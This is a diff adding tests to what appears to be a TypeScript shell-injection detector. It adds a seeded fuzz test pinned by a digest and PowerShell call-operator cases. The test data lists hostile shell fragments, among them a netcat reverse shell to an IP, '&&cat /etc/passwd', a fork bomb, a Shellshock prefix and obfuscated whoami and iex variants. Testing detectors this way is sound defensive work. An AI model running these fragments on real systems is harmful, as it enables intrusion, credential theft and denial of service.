@@ -3,6 +3,7 @@ import { detectShellInjection, PLAIN_PCT_KINDS } from '../../src/detectors/shell
 import { ShellLexer, TK_END, TK_WORD, W_UNQUOTED } from '../../src/tokenizers/shell';
 import { charMask } from '../../src/charclass';
 import { createEngine } from '../../src/engine';
+import { prng } from '../helpers/prng';
 
 // Test vectors written for this project (not copied from any payload corpus).
 
@@ -1140,4 +1141,91 @@ t.test('Ruby / Perl calls without parentheses, and a call argument cut at its co
     "spawn 'worker', 'queue'",
   ];
   for (const v of prose) t.not(detectShellInjection(v)?.rule, 'shell.exec-call', JSON.stringify(v));
+});
+
+// ---------------------------------------------------------------------------------------------------
+// Dense punctuation (session 16): the fast paths (mayFind's escape and drive reading, lookupName's
+// prefix filter, onOpen's call-name skip, the native markdown and tick scans) change no verdict.
+// A seeded table of generated values (punctuation, the sweep's units, attack fragments that reach
+// each new path, prose) is judged with and without the mask; the verdicts (rule and confidence) are
+// pinned by a digest and counts computed on the code before those changes (0b8f33a). A change of any
+// verdict changes the digest. (The session's own differential compared 1.3 M such values with the
+// earlier build, and caught each fault planted in the new code.)
+// ---------------------------------------------------------------------------------------------------
+t.test('dense punctuation: verdicts on a seeded table are those of the code before the fast paths', (t) => {
+  const r = prng(16);
+  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)] as T;
+  const ALPHA = '\'"`\\()[]{};:|&$%#@!*+-=<>/?.,~^_ 0ax\n\t';
+  const UNITS = ['`\\\'(', "&{'", "%'\\;", 'x:/&0', '\\x(', "-('\\0", '::1 ', "'::'", 'a: b&', '`.', '`".'];
+  const FRAGS = [
+    '; id', '|whoami', '$(id)', '`id`', '&&cat /etc/passwd', "'; uname -a; '", 'phpinfo()', "system('id')", '${IFS}',
+    '/???/??t /???/p??s??', ':(){ :|:& };:', '&{whoami}', 'i`e`x', '%COMSPEC:~-7,3%', '$()', 'x$()y',
+    "$'\\151\\144'", '\\nid', 'nc -e /bin/sh 1.2.3.4 4444', 'cmd /c dir', 'if exist c:\\x y', '\u212Ash -c x',
+    'python3 -c', './nc', '.sh -c id', 'dir/s', 'C:\\Windows\\System32\\cmd.exe', '/usr/bin/id',
+    // Escapes read without running the passes: glued runs, letter projections, literal newlines,
+    // terminal sequences, drives, cradle names.
+    'c\\at', 'w\\hoami', '\\w-h-o-a-m-i ', 'x\\nid', '\\033[2Awhoami', 'x:/a.exe', 'x\\:/a.exe', 'C:/x/y',
+    '/b\\in/sh', 'x.Down\\loadString(', 'py\\thon3 -c x', 'ex\\ist', 'p\\hp\\info()', 'sha\\256sum',
+    "sha'2'\\56sum", "py'th'on\\3 -c x", "'\\0'id", 'md\\5sum /etc/passwd', 'nc\\', '\\', '\\.\\/nc',
+    // Backticks read without running the passes: empty substitutions, tick names of two pieces or more,
+    // escaped quotes, a `.` word before a call operator.
+    '``', '` `', 'x` `y', 'wh`oami', 'n`et user', 'py`thon3 -c x', '&{w`hoami}', 'c\\\'at', "w\\'ho\\'ami", "'.'('ie'+'x')",
+    // Braces: expansions, function bodies (fork bombs, Shellshock) with separators or quotes before `{`.
+    '{l,-lh}s', 'x;{,id,}', ':(){ :|:&', "f() '{' f|f&", 'f() ; { f|f&', '() { :;};', '&{', '{.',
+  ];
+  const PROSE = ['Soft cotton jersey with a relaxed fit', "It's made from organic fibres (since 1962)", 'Tom & Jerry', 'salt; pepper', 'set `debug` to `true`'];
+  const gen = (): string => {
+    const k = r();
+    let s = '';
+    if (k < 0.25) {
+      const len = 1 + Math.floor(r() * 30);
+      for (let j = 0; j < len; j++) s += pick([...ALPHA]);
+    } else if (k < 0.45) {
+      s = pick(UNITS).repeat(1 + Math.floor(r() * 12));
+      if (r() < 0.5) {
+        const p = Math.floor(r() * (s.length + 1));
+        s = s.slice(0, p) + pick(FRAGS) + s.slice(p);
+      }
+    } else {
+      const parts = 1 + Math.floor(r() * 4);
+      for (let j = 0; j < parts; j++) {
+        const q = r();
+        s += q < 0.5 ? pick(FRAGS) : q < 0.65 ? pick(PROSE) : q < 0.8 ? pick(UNITS) : pick([...ALPHA]) + pick([...ALPHA]);
+      }
+      // Half of these without quotes (the backslash reading without quotes is the wider one).
+      if (r() < 0.5) s = s.replace(/['"]/g, '');
+    }
+    return s;
+  };
+  let h = 0x811c9dc5;
+  const add = (x: string): void => {
+    for (let j = 0; j < x.length; j++) h = Math.imul(h ^ x.charCodeAt(j), 0x01000193);
+  };
+  let findings = 0;
+  let high = 0;
+  for (let i = 0; i < 20000; i++) {
+    const v = gen();
+    const a = detectShellInjection(v);
+    const b = detectShellInjection(v, charMask(v));
+    add(`${i}:${a?.rule ?? '-'}|${a?.confidence ?? '-'}|${b?.rule ?? '-'}|${b?.confidence ?? '-'};`);
+    if (a !== undefined) findings++;
+    if (a?.confidence === 'high') high++;
+  }
+  t.same({ findings, high, digest: (h >>> 0).toString(16) }, { findings: 6344, high: 5024, digest: '40352157' });
+  t.end();
+});
+
+t.test('the PowerShell call operator after many blanks, or on a `.` word written with quotes (hA, s16)', (t) => {
+  // Missed before session 16: mayFind looked back over at most 8 blanks before the `(` and read only
+  // the character before a `.` (a quote there is still a `.` word once unquoted), and said no pass
+  // could find anything, so the pass that reports these never ran.
+  for (const v of ["x &          ('ie'+'x') 'y'", "x &\t\t\t\t\t\t\t\t\t\t('ie'+'x')", "x;''.('ie'+'x') 'y'", "x;\"\".('ie'+'x')"]) {
+    const d = detectShellInjection(v);
+    t.equal(d?.rule, 'shell.powershell', JSON.stringify(v));
+    t.equal(d?.confidence, 'high', JSON.stringify(v));
+    t.same(detectShellInjection(v, charMask(v)), d, `with the mask: ${JSON.stringify(v)}`);
+  }
+  // Dense punctuation the passes no longer run on: still nothing found.
+  for (const u of ['`\\\'(', '\\x(', "-('\\0", 'x:/&0', '`.', '`".']) t.equal(detectShellInjection(u.repeat(4000)), undefined, JSON.stringify(u));
+  t.end();
 });
